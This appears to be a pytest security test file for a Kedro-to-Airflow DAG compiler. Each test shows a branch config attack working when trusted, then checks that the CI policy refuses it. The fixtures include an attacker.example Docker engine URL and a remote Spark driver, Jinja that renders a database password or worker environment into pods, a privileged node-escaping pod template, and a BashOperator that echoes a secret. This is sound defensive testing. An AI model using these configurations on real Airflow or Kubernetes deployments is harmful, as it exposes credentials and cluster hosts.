"""The trust boundary's structural attacks (README, "Security model"), each performed twice: on the
config trusted as it is (the CLI on one's own checkout: the attack works, shown in the DAG Airflow
loads and renders), and in CI with the deployment's settings (refused, naming the setting to change).

The DAGs are loaded in Airflow's real DagBag and their tasks rendered as the worker renders them.
"""

from __future__ import annotations

import pytest
import yaml
from conftest import FakeVariables, load_dag, make_graph, render

from kedro_af_ci.compiler.pipeline import CompileRequest, compile_dag
from kedro_af_ci.errors import ConfigError
from kedro_af_ci.gitinfo.commit import GitInfo
from kedro_af_ci.policy.model import load_policy

pytestmark = pytest.mark.airflow
GIT = GitInfo("0123456789abcdef0123456789abcdef01234567", "feature/x")
GRAPH = make_graph([("a", ["raw"], ["x"], []), ("b", ["x"], [], [])], package="tiny")


class FakeConnections:
    """The context's ``conn``: ``conn.NAME.password`` as the worker's accessor answers it."""

    def __init__(self, **connections):
        self._connections = connections

    def __getattr__(self, name):
        if name.startswith("_"):
            raise AttributeError(name)
        return type("Connection", (), self._connections[name])()


CONNECTIONS = FakeConnections(prod_db={"password": "prod-db-password-s3cr3t", "host": "db.internal"})


def compiled(tmp_path, run_config: dict, deployment: str | None = None, **top):
    """The DAG of ``run_config``: trusted (None) or narrowed to the deployment's settings (YAML)."""
    conf = tmp_path / "conf" / "base"
    conf.mkdir(parents=True, exist_ok=True)
    (conf / "airflow-k8s.yaml").write_text(yaml.safe_dump({**top, "run_config": run_config}))
    request = CompileRequest(project_path=tmp_path, graph=GRAPH, git=GIT, verify=False,
                             policy=None if deployment is None else load_policy(deployment))
    result = compile_dag(request)
    return load_dag(result.dag.source, result.dag.dag_id, tmp_path)


def refusal(tmp_path, run_config: dict, deployment: str = "", **top) -> str:
    with pytest.raises(ConfigError) as info:
        compiled(tmp_path / "ci", run_config, deployment, **top)
    return str(info.value)


def test_docker_engine_and_connection_are_the_deployments(tmp_path):
    """The DockerOperator logs in to its engine with the named connection's login and password: a
    branch that names both sends any connection to an engine of its own."""
    docker = {"url": "tcp://attacker.example:2375", "conn_id": "prod_registry", "network_mode": "host"}
    run_config = {"image": "a:1", "execution": "docker", "docker": docker}
    task = compiled(tmp_path / "trusted", run_config).task_dict["a"]
    assert (task.docker_url, task.docker_conn_id, task.network_mode) == (
        "tcp://attacker.example:2375", "prod_registry", "host")  # the attack, as the worker would run it
    message = refusal(tmp_path, run_config, "executions: [docker]")
    assert "run_config.docker.url: 'tcp://attacker.example:2375' is the deployment's to choose, and it sets none: " \
           "set deployment.docker_url" in message
    assert "run_config.docker.conn_id: 'prod_registry'" in message and "deployment.docker_conn_id" in message
    assert "run_config.docker.network_mode: 'host' is not allowed here (allowed: none, bridge)" in message
    allowed = compiled(tmp_path / "allowed", {**run_config, "docker": {"network_mode": "none"}},
                       "executions: [docker]\ndocker_url: tcp://engine.internal:2376\ndocker_conn_id: registry")
    task = allowed.task_dict["a"]
    assert (task.docker_url, task.docker_conn_id, task.network_mode) == ("tcp://engine.internal:2376", "registry",
                                                                         "none")


def test_config_jinja_reads_only_the_variables_and_connections_allowed(tmp_path):
    run_config = {"image": "a:1", "env_vars": {"LEAK": "{{ conn.prod_db.password }}", "ENV": "{{ var.value.env }}"}}
    pod = render(compiled(tmp_path / "trusted", run_config).task_dict["a"], conn=CONNECTIONS,
                 var=FakeVariables({"env": "prod"})).build_pod_request_obj()
    env = {e.name: e.value for e in pod.spec.containers[0].env}
    assert env["LEAK"] == "prod-db-password-s3cr3t"  # Airflow rendered the connection into the branch's pod
    message = refusal(tmp_path, run_config)
    assert "run_config.env_vars.LEAK: uses the Airflow Connection 'prod_db': add it to " \
           "deployment.airflow_connections" in message
    assert "run_config.env_vars.ENV: reads the Airflow Variable 'env'" in message
    dag = compiled(tmp_path / "allowed", {**run_config, "env_vars": {"ENV": "{{ var.value.env }}"}},
                   "airflow_variables: [env]")
    pod = render(dag.task_dict["a"], var=FakeVariables({"env": "prod"})).build_pod_request_obj()
    assert {e.name: e.value for e in pod.spec.containers[0].env}["ENV"] == "prod"


def test_config_jinja_cannot_reach_the_worker_through_the_context(tmp_path):
    run_config = {"image": "a:1", "env_vars": {"ENVIRON": "{{ macros.uuid.os.environ }}"}}
    import os

    os.environ["KAF_WORKER_SECRET"] = "worker-only-value-81"
    try:
        from airflow.sdk.execution_time import macros  # the context's `macros`, as the worker gives it

        pod = render(compiled(tmp_path / "trusted", run_config).task_dict["a"], macros=macros).build_pod_request_obj()
        assert "worker-only-value-81" in {e.name: e.value for e in pod.spec.containers[0].env}["ENVIRON"]
    finally:
        del os.environ["KAF_WORKER_SECRET"]
    assert "macros.uuid is not one of the date macros" in refusal(tmp_path, run_config)


def test_parameters_read_only_allowed_variables_and_run_values(tmp_path):
    message = refusal(tmp_path, {"image": "a:1", "variables_params": ["prod_secret"], "macro_params": ["conn"]})
    assert "run_config.variables_params: 'prod_secret' is not allowed here (allowed: none): add it to " \
           "deployment.airflow_variables" in message
    assert "run_config.macro_params: 'conn' is not a run value" in message


def test_pod_templates_run_as_allowed_accounts_within_the_baseline(tmp_path):
    """The node's namespaces and root, a privileged container, SELinux's super-privileged type and no
    AppArmor: in a template, each reaches the node. ``pod_security: privileged`` (the config trusted as
    it is) lets them through; the default ``baseline`` refuses them outside CI too, and in CI the
    deployment's minimum holds whatever the branch says."""
    template = """
apiVersion: v1
kind: Pod
metadata:
  namespace: kube-system
  annotations: {container.apparmor.security.beta.kubernetes.io/base: unconfined}
spec:
  serviceAccountName: cluster-admin
  hostNetwork: true
  volumes: [{name: root, hostPath: {path: /}}]
  containers:
    - name: base
      securityContext: {privileged: true, capabilities: {add: [SYS_ADMIN]}, seLinuxOptions: {type: spc_t}}
      env: [{name: LEAK, value: "{{ conn.prod_db.password }}"}]
"""
    run_config = {"image": "a:1", "pod_security": "privileged",
                  "kubernetes_pod_templates": {"__default__": {"template": template}}}
    pod = render(compiled(tmp_path / "trusted", run_config).task_dict["a"], conn=CONNECTIONS).build_pod_request_obj()
    assert pod.spec.host_network and pod.spec.volumes[0].host_path.path == "/"  # the node's root, in the pod
    assert pod.spec.service_account_name == "cluster-admin"
    assert pod.spec.containers[0].security_context.se_linux_options.type == "spc_t"  # SELinux's unconfined type
    assert pod.metadata.annotations["container.apparmor.security.beta.kubernetes.io/base"] == "unconfined"
    key = "run_config.kubernetes_pod_templates.__default__.template"
    outside_the_baseline = (
        "spec.hostNetwork is true", "spec.volumes[root].hostPath is", "spec.containers[base].securityContext."
        "privileged is true", "spec.containers[base].securityContext.capabilities.add is \"SYS_ADMIN\"",
        "spec.containers[base].securityContext.seLinuxOptions.type is \"spc_t\"",
        "metadata.annotations['container.apparmor.security.beta.kubernetes.io/base'] is \"unconfined\"")
    with pytest.raises(ConfigError) as info:  # outside CI, the config's default standard
        compiled(tmp_path / "default", {**run_config, "pod_security": "baseline"})
    for problem in outside_the_baseline:
        assert f"{key}: {problem}" in str(info.value), str(info.value)
    message = refusal(tmp_path, run_config)  # in CI: the branch's `privileged` is raised to the baseline
    for problem in ("service account 'cluster-admin' is not allowed here", "namespace 'kube-system' is not allowed",
                    *outside_the_baseline, "uses the Airflow Connection 'prod_db'"):
        assert f"{key}: {problem}" in message, message


def test_namespace_and_service_account_are_picked_from_the_allowed(tmp_path):
    assert "run_config.namespace: 'kube-system' is not allowed here (allowed: airflow)" in refusal(
        tmp_path, {"image": "a:1", "namespace": "kube-system"})
    dag = compiled(tmp_path / "default", {"image": "a:1"}, "namespaces: [ml-preview, ml]\nservice_accounts: [runner]")
    assert dag.task_dict["a"].namespace == "ml-preview"  # left out: the deployment's first
    dag = compiled(tmp_path / "picked", {"image": "a:1", "namespace": "ml", "service_account_name": "runner"},
                   "namespaces: [ml-preview, ml]\nservice_accounts: [runner]")
    assert (dag.task_dict["a"].namespace, dag.task_dict["a"].service_account_name) == ("ml", "runner")


def test_local_execution_runs_the_branch_outside_any_image(tmp_path):
    assert "run_config.execution: 'local' is not allowed here (allowed: kubernetes)" in refusal(
        tmp_path, {"execution": "local"})
    assert compiled(tmp_path / "allowed", {"execution": "local"}, "executions: [local]").task_dict["a"]


def test_a_protected_string_is_never_read_as_a_template_file(tmp_path):
    """DockerOperator loads a templated value ending in .sh as a template file; a branch's image tag
    can end so. Every string is literal() unless it can be neither Jinja nor a file name."""
    import datetime

    from airflow.providers.docker.operators.docker import DockerOperator
    from airflow.sdk import DAG

    with DAG("raw", schedule=None, start_date=datetime.datetime(2024, 1, 1)):
        raw = DockerOperator(task_id="t", image="registry.example/app:run.sh", command=["x"])
    with pytest.raises(Exception, match=r"run\.sh"):
        render(raw)  # Airflow looks for a template file of that name: the value is not used as written
    dag = compiled(tmp_path / "trusted", {"image": "registry.example/app:run.sh", "execution": "docker"})
    assert render(dag.task_dict["a"]).image == "registry.example/app:run.sh"


def test_every_template_file_suffix_of_the_installed_providers_starts_with_a_dot():
    """What the literal() rule relies on: a string without '.' can never end like a template file. Every
    operator and sensor module of the installed providers, but of the Google provider (hundreds of
    modules) only the Dataproc operators the built-in Spark factory uses."""
    import importlib
    import pkgutil

    import airflow.providers
    from airflow.sdk import BaseOperator

    names = [m.name for m in pkgutil.walk_packages(airflow.providers.__path__, "airflow.providers.")
             if (".operators." in m.name or ".sensors." in m.name)
             and not m.name.startswith("airflow.providers.google")]
    names.append("airflow.providers.google.cloud.operators.dataproc")
    suffixes, operators = set(), 0
    for name in names:
        try:
            loaded = importlib.import_module(name)
        except Exception:  # a provider whose optional dependencies are not installed here
            continue
        for value in vars(loaded).values():
            if isinstance(value, type) and issubclass(value, BaseOperator):
                operators += 1
                suffixes.update(getattr(value, "template_ext", ()) or ())
    assert operators > 50 and suffixes, (operators, suffixes)
    assert all(isinstance(s, str) and s.startswith(".") for s in suffixes), suffixes


def test_project_path_cannot_carry_jinja_into_a_mount(tmp_path):
    from kedro_af_ci.config.run import RunConfig

    with pytest.raises(ValueError, match="absolute path of letters"):
        RunConfig(image="a:1", project_path="/{{ conn.prod_db.password }}")


EVIL_FACTORY = '''
from kedro_af_ci.spark import AirflowTemplate, OperatorSpec, SparkOperatorFactory


class Factory(SparkOperatorFactory):
    def submit(self, settings, job):
        return OperatorSpec("airflow.providers.standard.operators.bash.BashOperator",
                            {"bash_command": AirflowTemplate("echo {{ conn.prod_db.password }} # "
                                                             + settings.cluster_name)})
'''


def test_a_custom_spark_factory_names_only_allowed_operators_and_jinja(tmp_path):
    """Project code chooses the factory's operators: a BashOperator runs its command on the worker,
    outside any image, and the Jinja it returns is rendered with the whole context."""
    graph = make_graph([("a", [], ["x"], ["kedro-airflow-k8s.group.pyspark"]), ("b", ["x"], [], [])],
                       package="evilfactory")
    (tmp_path / "src").mkdir(parents=True)
    (tmp_path / "src" / "evilfactory_ops.py").write_text(EVIL_FACTORY)
    spark = {"type": "custom", "operator_factory": "evilfactory_ops.Factory", "artifacts_path": "gs://b/spark"}

    def compile_with(deployment):
        conf = tmp_path / "conf" / "base"
        conf.mkdir(parents=True, exist_ok=True)
        (conf / "airflow-k8s.yaml").write_text(yaml.safe_dump({"run_config": {"image": "a:1", "spark": spark}}))
        return compile_dag(CompileRequest(project_path=tmp_path, graph=graph, git=GIT, verify=False,
                                          policy=None if deployment is None else load_policy(deployment)))

    result = compile_with(None)
    task = load_dag(result.dag.source, result.dag.dag_id, tmp_path).task_dict["pyspark_1"]
    assert type(task).__name__ == "BashOperator"
    assert render(task, conn=CONNECTIONS).bash_command.startswith("echo prod-db-password-s3cr3t")  # the attack
    with pytest.raises(ConfigError) as info:
        compile_with("spark_artifacts_path: gs://b/spark")
    message = str(info.value)
    assert "BashOperator is not an operator the deployment allows: add it to deployment.operators" in message
    assert "uses the Airflow Connection 'prod_db'" in message
    with pytest.raises(ConfigError) as info:  # allowing the class does not allow its Jinja
        compile_with("spark_artifacts_path: gs://b/spark\n"
                     "operators: [airflow.providers.standard.operators.bash.BashOperator]")
    assert "uses the Airflow Connection 'prod_db'" in str(info.value) and "BashOperator is not" not in str(info.value)


def test_spark_submit_never_runs_the_driver_or_fetches_code_on_the_worker(tmp_path, monkeypatch):
    """spark-submit runs on the Airflow worker: in client mode the driver (the branch's code) runs there,
    and a remote application or submission-side settings make it fetch and read things there."""
    import json

    from airflow.providers.apache.spark.hooks.spark_submit import SparkSubmitHook

    monkeypatch.setenv("AIRFLOW_CONN_SPARK_DEFAULT", json.dumps({"conn_type": "spark", "host": "k8s://https://k"}))
    graph = make_graph([("a", [], ["x"], ["kedro-airflow-k8s.group.pyspark"]), ("b", ["x"], [], [])])
    spark = {"type": "kubernetes", "application": "https://attacker.example/driver.py",
             "conf": {"spark.submit.deployMode": "client", "spark.jars.packages": "evil:evil:1",
                      "spark.kubernetes.authenticate.submission.oauthTokenFile": "/var/run/secrets/token",
                      "spark.sql.shuffle.partitions": "8"}}
    before = SparkSubmitHook(conf=spark["conf"], conn_id="spark_default")  # cluster mode only as a conf entry
    command = before._build_spark_submit_command(spark["application"])
    assert "--deploy-mode" not in command and "spark.submit.deployMode=client" in command  # the driver on the worker

    conf = tmp_path / "conf" / "base"
    conf.mkdir(parents=True)
    (conf / "airflow-k8s.yaml").write_text(yaml.safe_dump({"run_config": {"image": "a:1", "spark": spark}}))
    result = compile_dag(CompileRequest(project_path=tmp_path, graph=graph, git=GIT, verify=False))
    task = render(load_dag(result.dag.source, result.dag.dag_id, tmp_path).task_dict["pyspark_1"])
    hook = SparkSubmitHook(conf=task.conf, conn_id=task._conn_id, deploy_mode=task._deploy_mode)
    command = hook._build_spark_submit_command(task.application)
    assert command[command.index("--deploy-mode") + 1] == "cluster"  # the argument wins over any conf entry

    with pytest.raises(ConfigError) as info:
        compile_dag(CompileRequest(project_path=tmp_path, graph=graph, git=GIT, verify=False,
                                   policy=load_policy("")))
    message = str(info.value)
    for key in ("spark.submit.deployMode", "spark.jars.packages",
                "spark.kubernetes.authenticate.submission.oauthTokenFile"):
        assert f"run_config.spark.conf.{key}: acts where spark-submit runs" in message
    assert "spark.sql.shuffle.partitions" not in message  # the driver's and executors' own settings stay
    assert "run_config.spark.application: 'https://attacker.example/driver.py' would be fetched" in message


def test_a_branch_sends_its_tasks_only_to_queues_and_pools_the_deployment_allows(tmp_path):
    """A Celery queue decides which workers run a task: a branch naming the production workers' queue
    would run its code there; a pool decides whose slots it takes."""
    run_config = {"image": "a:1", "resources": {"__default__": {"queue": "prod-workers", "pool": "prod"}}}
    task = compiled(tmp_path / "trusted", run_config).task_dict["a"]
    assert (task.queue, task.pool) == ("prod-workers", "prod")  # the attack, as the scheduler would route it
    message = refusal(tmp_path, run_config)
    assert "run_config.resources.__default__.queue: 'prod-workers' is not allowed here (allowed: none): add it " \
           "to deployment.queues" in message
    assert "run_config.resources.__default__.pool: 'prod' is not allowed here" in message
    allowed = compiled(tmp_path / "allowed", {**run_config, "resources": {"__default__": {"queue": "previews"}}},
                       "queues: [previews]")
    assert allowed.task_dict["a"].queue == "previews"
